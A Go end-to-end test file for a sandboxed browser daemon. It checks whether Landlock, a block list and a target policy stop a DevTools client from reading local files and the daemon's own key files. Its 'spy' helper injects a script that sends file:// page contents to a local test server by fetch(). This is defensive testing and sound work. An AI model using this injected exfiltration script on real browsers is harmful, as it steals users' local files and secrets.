package e2e

import (
	"crypto/rand"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stasisd/stasis/e2e/daemon"
)

// watchLoot is how long a test looks for bytes that must not arrive. Where no wall
// stands they arrive in less than a second, on a machine that does nothing else.
const watchLoot = 3 * time.Second

// stepTime bounds each step of a route where a wall stands: a step may be refused, cut
// off or left without an answer. Where none stands, a step takes what it takes.
const stepTime = 5 * time.Second

// walls are sets of build tags that leave one wall standing, or none.
var walls = []struct {
	name   string
	tags   []string
	engine string // where the wall exists; empty: both
	open   bool   // no wall stands: the bytes must arrive
	short  string // who runs the daemon in make test: "root", "user" or both; make test-long has all
}{
	{name: "no wall", tags: []string{noLandlock, noBlocklist, noTargetPolicy}, open: true, short: "root"},
	{name: "Landlock alone", tags: []string{noBlocklist, noTargetPolicy}, short: "user"},
	{name: "block list alone", tags: []string{noLandlock, noTargetPolicy}, engine: "chrome", short: "user"},
	{name: "target policy alone", tags: []string{noLandlock, noBlocklist}, short: "root"},
	{name: "all walls"},
}

const (
	noLandlock     = "stasis_no_landlock"
	noBlocklist    = "stasis_no_blocklist"
	noTargetPolicy = "stasis_no_target_policy"
)

// thief is a CDP client that is after a file of the machine.
type thief struct {
	t      *testing.T
	d      *daemon.Daemon
	s      liveSession
	w      *wire
	site   *httptest.Server // serves pages, and takes what pages send it
	path   string           // of the file
	loot   string           // what is in it
	engine string
	open   bool // no wall stands, so that the bytes must arrive

	mu   sync.Mutex
	sent []string // what pages have sent to the site
}

// newThief plants a file that everybody may read, outside of the data directory.
func newThief(t *testing.T, d *daemon.Daemon) *thief {
	x := &thief{t: t, d: d, loot: planted}
	dir := t.TempDir()
	for at := dir; at != os.TempDir() && at != "/"; at = filepath.Dir(at) {
		if err := os.Chmod(at, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	x.path = filepath.Join(dir, "loot.txt")
	if err := os.WriteFile(x.path, []byte(planted), 0o644); err != nil {
		t.Fatal(err)
	}
	x.site = httptest.NewServer(http.HandlerFunc(x.serve))
	t.Cleanup(x.site.Close)
	return x
}

// secrets are what a daemon without root has in its data directory that only its own
// user may read, one for each try of a route in turn.
var secrets = []string{"api-key", "identity", "identity", "archive-key", "identity", "archive-key"}

// steal has the thief go after a secret of the daemon itself.
func (x *thief) steal(name string) {
	x.t.Helper()
	x.path = filepath.Join(x.d.Dir, name)
	switch name {
	case "api-key": // tests give the key in the environment
		x.loot = "stasis_" + rand.Text()
		if err := errors.Join(os.WriteFile(x.path, []byte(x.loot), 0o600), os.Chown(x.path, unprivileged, unprivileged)); err != nil {
			x.t.Fatal(err)
		}
	default:
		raw, err := os.ReadFile(x.path)
		if err != nil {
			x.t.Fatal(err)
		}
		lines := strings.Fields(string(raw))
		x.loot = lines[len(lines)-1]
	}
}

// serve is the thief's own site.
func (x *thief) serve(w http.ResponseWriter, r *http.Request) {
	x.mu.Lock()
	x.sent = append(x.sent, r.URL.RawQuery)
	x.mu.Unlock()
	if r.URL.Path == "/paper.pdf" {
		w.Header().Set("Content-Type", "application/pdf")
		_, _ = fmt.Fprint(w, onePage)
		return
	}
	w.Header().Set("Content-Type", "text/html")
	_, _ = fmt.Fprint(w, `<title>site</title><body style="height:900px">plain</body>`)
}

const onePage = "%PDF-1.1\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n" +
	"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>endobj\ntrailer<</Root 1 0 R>>\n"

// enter begins a session and connects with its ticket alone.
func (x *thief) enter(body obj) {
	x.t.Helper()
	x.s = begin(x.t, x.d, body)
	x.w = dial(x.t, x.s.CDP)
	x.w.keepRaw()
}

// leave ends the session.
func (x *thief) leave() {
	x.w.close()
	finish(x.t, x.d, x.s.ID, throwAway)
}

// step sends a command and gives its answer; the zero one where none came.
func (x *thief) step(session, method string, params any) reply {
	x.t.Helper()
	select {
	case r := <-x.w.post(session, method, params):
		return r
	case <-x.w.closed:
	case <-time.After(x.within(stepTime)):
	}
	return reply{}
}

// within is a bound on time, or a long one where no wall stands.
func (x *thief) within(bound time.Duration) time.Duration {
	if x.open {
		return grace
	}
	return bound
}

// eval is step for a script, and gives its value as text.
func (x *thief) eval(session, script string) string {
	x.t.Helper()
	r := x.step(session, "Runtime.evaluate", obj{"expression": script, "awaitPromise": true, "returnByValue": true, "userGesture": true})
	var got struct {
		Result           struct{ Value any }
		ExceptionDetails any
	}
	if r.Error != nil {
		return "error: " + r.Error.Message
	}
	_ = json.Unmarshal(r.Result, &got) // an empty answer has no value
	if got.ExceptionDetails != nil {
		return fmt.Sprint("exception: ", got.ExceptionDetails)
	}
	return fmt.Sprint(got.Result.Value)
}

// spy has every document of a page say what it shows: in its console, and to the
// thief's site. It does not wait for the answers.
func (x *thief) spy(session string) {
	x.w.post(session, "Page.addScriptToEvaluateOnNewDocument", obj{"source": `addEventListener("DOMContentLoaded", () => {
		const text = document.documentElement.innerText; console.log("spy", location.href, text);
		if (location.protocol == "file:") fetch("` + x.site.URL + `/?" + encodeURIComponent(text), {mode: "no-cors"}) })`})
	x.w.post(session, "Page.enable", nil)
	x.w.post(session, "Runtime.enable", nil)
}

// newPage opens a page of the thief's site.
func (x *thief) newPage() (session, target string) {
	x.t.Helper()
	var made struct{ TargetID string }
	x.w.call("", "Target.createTarget", obj{"url": x.site.URL + "/"}, &made)
	return x.w.attach(made.TargetID), made.TargetID
}

// url is the file's.
func (x *thief) url() string { return "file://" + x.path }

// arrived says whether the file's bytes have come to the thief.
func (x *thief) arrived() bool {
	if x.w.heardRaw(x.loot) {
		return true
	}
	x.mu.Lock()
	defer x.mu.Unlock()
	for _, s := range x.sent {
		if strings.Contains(s, x.loot) {
			return true
		}
	}
	return false
}

// got looks for the bytes for a while.
func (x *thief) got() bool {
	for end := time.Now().Add(x.within(watchLoot)); time.Now().Before(end); {
		if x.arrived() {
			return true
		}
		select {
		case <-x.w.heard:
		case <-time.After(20 * time.Millisecond): // the site hears of what comes over the network
		}
	}
	return x.arrived()
}

// find gives the target at an address that begins so, once there is one; empty if
// there is none in time.
func (x *thief) find(prefix string) string {
	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end); {
		var got struct{ TargetInfos []targetInfo }
		_ = json.Unmarshal(x.step("", "Target.getTargets", obj{"filter": []obj{{}}}).Result, &got) // an empty answer has none
		for _, info := range got.TargetInfos {
			if strings.HasPrefix(info.URL, prefix) && info.Type != "tab" {
				return info.ID
			}
		}
		select { // an event may tell of it; a target that a filter hides sends none
		case <-x.w.heard:
		case <-time.After(20 * time.Millisecond):
		}
	}
	return ""
}

// hear waits for an event, for the time of a step.
func (x *thief) hear(method string) (event, bool) {
	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end); {
		if e, ok := x.w.find("", method); ok {
			return e, true
		}
		select {
		case <-x.w.heard:
		case <-x.w.closed:
			return event{}, false
		case <-time.After(20 * time.Millisecond): // another may have taken the token
		}
	}
	return event{}, false
}

// until waits for a text in any message, for the time of a step.
func (x *thief) until(text string) {
	for end := time.Now().Add(x.within(stepTime)); time.Now().Before(end) && !x.w.heardRaw(text); {
		select {
		case <-x.w.heard:
		case <-x.w.closed:
			return
		case <-time.After(20 * time.Millisecond): // another may have taken the token
		}
	}
}

// attach is step for Target.attachToTarget.
func (x *thief) attach(target string) string {
	var got struct {
		SessionID string `json:"sessionId"`
	}
	_ = json.Unmarshal(x.step("", "Target.attachToTarget", obj{"targetId": target, "flatten": true}).Result, &got) // an empty answer has none
	return got.SessionID
}

// byOrdinaryUser are the options of a daemon that an ordinary user runs.
func byOrdinaryUser(t *testing.T) daemon.Options {
	t.Helper()
	const uid = unprivileged
	dir := daemon.DataDir(t)
	if err := errors.Join(os.Chown(dir, uid, uid), os.Chmod(dir, 0o700)); err != nil {
		t.Fatal(err)
	}
	return daemon.Options{Dir: dir, Env: []string{"HOME=" + dir, "TMPDIR=" + dir},
		Prefix: []string{"setpriv", "--reuid", "12345", "--regid", "12345", "--clear-groups", "--"}}
}
